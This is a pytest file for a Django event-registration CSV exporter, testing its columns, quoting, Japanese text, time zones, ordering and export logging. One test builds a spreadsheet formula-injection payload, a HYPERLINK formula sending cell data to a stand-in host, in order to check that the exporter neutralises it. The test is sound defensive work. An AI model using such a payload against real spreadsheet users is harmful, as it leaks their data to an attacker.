import csv
import io
from datetime import datetime
from zoneinfo import ZoneInfo

import pytest
from django.utils import translation

from registrations import exporters, selectors
from registrations.models import ExportLog, Registration
from tests.factories import (
    AttendanceOptionFactory,
    DelegationFactory,
    PrecedenceCategoryFactory,
    RegistrationFactory,
    UserFactory,
)

pytestmark = pytest.mark.django_db

EXPECTED_HEADER = [
    "Reference",
    "Status",
    "Honorific",
    "Family name",
    "Given name",
    "Name in Japanese script",
    "Organisation",
    "Position",
    "Sector",
    "Nationality",
    "Nationality code",
    "Email",
    "Phone",
    "Attendance options",
    "Dietary requirement",
    "Dietary details",
    "Accessibility needs",
    "Interpretation",
    "Registered at",
    "Checked in at",
    "Speaker",
    "Category",
    "Delegation",
    "Head of delegation",
    "Precedence",
]


def export_bytes(event, queryset=None):
    queryset = queryset if queryset is not None else selectors.attendees(event=event)
    return b"".join(exporters.csv_chunks(queryset, event=event))


def read_back(data: bytes) -> list[list[str]]:
    assert data.startswith("\ufeff".encode())  # the BOM Excel needs for UTF-8
    text = data.decode("utf-8").removeprefix("\ufeff")
    return list(csv.reader(io.StringIO(text, newline="")))


def test_export_header_is_the_documented_columns(event):
    assert read_back(export_bytes(event)) == [EXPECTED_HEADER]


def test_export_round_trips_japanese_commas_quotes_and_newlines(event):
    day_1 = AttendanceOptionFactory(event=event, name="Day 1", order=1)
    dinner = AttendanceOptionFactory(event=event, name="Reception, dinner", order=2)
    AttendanceOptionFactory(event=event, name="Site visit", order=3)
    registration = RegistrationFactory(
        event=event,
        honorific="Vice Admiral",
        given_name="Kazuo",
        family_name="Ōtsuka",
        japanese_name="大塚 海夫",
        organisation='Japan Maritime Self-Defense Force, "Joint Staff"',
        position="Director,\nStrategy",
        sector="military",
        nationality="JP",
        email="otsuka@example.jp",
        phone="03 1234 5678",
        dietary_requirement="other",
        dietary_details='No shellfish; "mild" only',
        accessibility_needs="Step-free access\r\nplease",
        interpretation="ja",
        delegation=DelegationFactory(
            event=event, name_en="Japanese delegation", name_ja="日本代表団", country="JP"
        ),
        is_head_of_delegation=True,
        precedence=PrecedenceCategoryFactory(name_en="Three-star officer", order=60),
    )
    registration.attendance_options.set([dinner, day_1])
    Registration.objects.filter(pk=registration.pk).update(
        created_at=datetime(2016, 9, 30, 16, 5, 9, tzinfo=ZoneInfo("UTC")),
        checked_in_at=datetime(2016, 11, 1, 0, 30, tzinfo=ZoneInfo("UTC")),
    )

    header, row = read_back(export_bytes(event))

    assert dict(zip(header, row, strict=True)) == {
        "Reference": registration.reference,
        "Status": "Confirmed",
        "Honorific": "Vice Admiral",
        "Family name": "Ōtsuka",
        "Given name": "Kazuo",
        "Name in Japanese script": "大塚 海夫",
        "Organisation": 'Japan Maritime Self-Defense Force, "Joint Staff"',
        "Position": "Director,\nStrategy",
        "Sector": "Armed forces",
        "Nationality": "Japan",
        "Nationality code": "JP",
        "Email": "otsuka@example.jp",
        "Phone": "03 1234 5678",
        "Attendance options": "Day 1; Reception, dinner",
        "Dietary requirement": "Other (please specify)",
        "Dietary details": 'No shellfish; "mild" only',
        "Accessibility needs": "Step-free access\r\nplease",
        "Interpretation": "Into Japanese",
        # ISO 8601 in the event's zone (Tokyo, UTC+9), not UTC.
        "Registered at": "2016-10-01T01:05:09+09:00",
        "Checked in at": "2016-11-01T09:30:00+09:00",
        "Speaker": "",
        "Category": "Delegate",
        "Delegation": "Japanese delegation",
        "Head of delegation": "yes",
        "Precedence": "Three-star officer",
    }


def test_export_uses_rfc_4180_quoting_and_crlf_between_records(event):
    RegistrationFactory(event=event, family_name="Smith", organisation='Chatham "House", London')
    data = export_bytes(event).decode("utf-8")
    assert data.count("\r\n") == 2
    assert ',"Chatham ""House"", London",' in data


@pytest.mark.parametrize("prefix", ["=", "+", "-", "@", "\t", "\r", "\n", "＝", "＋", "－", "＠"])
def test_export_neutralises_cells_that_start_like_a_formula(event, prefix):
    payload = f'{prefix}HYPERLINK("http://evil.example/?x="&A1,"Click")'
    RegistrationFactory(
        event=event,
        family_name=payload,
        organisation=payload,
        dietary_requirement="other",
        dietary_details=payload,
    )
    header, row = read_back(export_bytes(event))
    cells = dict(zip(header, row, strict=True))
    for column in ("Family name", "Organisation", "Dietary details"):
        assert cells[column] == "'" + payload, column


def test_export_leaves_ordinary_cells_alone(event):
    RegistrationFactory(event=event, family_name="O'Neill", organisation="Institute | Tokyo")
    header, row = read_back(export_bytes(event))
    cells = dict(zip(header, row, strict=True))
    assert (cells["Family name"], cells["Organisation"]) == ("O'Neill", "Institute | Tokyo")


def test_export_phone_numbers_with_a_plus_are_kept_as_text(event):
    RegistrationFactory(event=event, phone="+81 3 1234 5678")
    header, row = read_back(export_bytes(event))
    assert dict(zip(header, row, strict=True))["Phone"] == "'+81 3 1234 5678"


def test_export_is_english_whatever_the_active_language(event):
    RegistrationFactory(event=event, nationality="JP")
    english = export_bytes(event)
    with translation.override("ja"):
        japanese = export_bytes(event)
    assert japanese == english


def test_export_lists_rows_by_family_then_given_name(event):
    RegistrationFactory(event=event, family_name="Yamada", given_name="Taro")
    RegistrationFactory(event=event, family_name="Brown", given_name="Zoe")
    RegistrationFactory(event=event, family_name="Brown", given_name="Adam")
    rows = read_back(export_bytes(event))[1:]
    assert [(row[3], row[4]) for row in rows] == [
        ("Brown", "Adam"),
        ("Brown", "Zoe"),
        ("Yamada", "Taro"),
    ]


@pytest.mark.parametrize("size", [1, 3])
def test_export_query_count_does_not_grow_with_rows(event, size, django_assert_num_queries):
    options = AttendanceOptionFactory.create_batch(3, event=event)
    for registration in RegistrationFactory.create_batch(size, event=event):
        registration.attendance_options.set(options)
    # The options, then the registrations through one cursor.
    with django_assert_num_queries(2):
        rows = read_back(export_bytes(event))
    assert len(rows) == size + 1
    assert all(row[13].count(";") == 2 for row in rows[1:])


def test_start_export_logs_who_what_and_how_many_rows(event):
    organiser = UserFactory(username="kenji", groups=["Organisers"])
    RegistrationFactory.create_batch(2, event=event, status="confirmed")
    RegistrationFactory(event=event, status="pending")
    filters = selectors.AttendeeFilter(statuses=("confirmed",))
    chunks = exporters.start_export(
        event=event,
        queryset=selectors.attendees(event=event, filters=filters),
        source=ExportLog.Source.STAFF_PAGE,
        filters=filters.describe(),
        user=organiser,
    )
    log = ExportLog.objects.get()
    # On record before the first byte leaves...
    assert (log.user, log.username, log.filters, log.row_count) == (
        organiser,
        "kenji",
        {"status": ["confirmed"]},
        None,
    )
    rows = read_back(b"".join(chunks))
    log.refresh_from_db()
    # ...and the row count once the last one has.
    assert len(rows) == 3
    assert log.row_count == 2
    assert log.completed_at is not None


def test_an_export_abandoned_half_way_keeps_its_partial_row_count(event, monkeypatch):
    monkeypatch.setattr(exporters, "ROWS_PER_CHUNK", 2)
    RegistrationFactory.create_batch(5, event=event)
    chunks = exporters.start_export(
        event=event,
        queryset=selectors.attendees(event=event),
        source=ExportLog.Source.COMMAND,
        filters={},
        username="ops",
    )
    next(chunks)  # the BOM and the header
    next(chunks)  # the first two rows
    chunks.close()  # the client went away
    log = ExportLog.objects.get()
    assert (log.row_count, log.completed_at) == (2, None)
